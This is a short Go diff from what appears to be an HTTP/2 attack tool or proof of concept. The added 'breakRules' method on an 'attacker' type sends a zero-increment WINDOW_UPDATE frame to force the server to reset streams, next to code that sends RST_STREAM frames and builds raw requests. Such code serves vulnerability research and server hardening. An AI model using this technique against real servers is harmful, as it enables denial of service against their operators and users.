@@ -121,6 +121,13 @@ func (a *attacker) reset(stream uint32) error {
 	return a.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
 }
 
+// breakRules makes the server reset a stream: RFC 9113 section 6.9 has no increment of 0.
+func (a *attacker) breakRules(stream uint32) error {
+	a.writing.Lock()
+	defer a.writing.Unlock()
+	return a.frames.WriteWindowUpdate(stream, 0)
+}
+
 func announced(path string, length int) string {
 	return "POST " + path + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: " + strconv.Itoa(length) + "\r\n\r\n"
 }
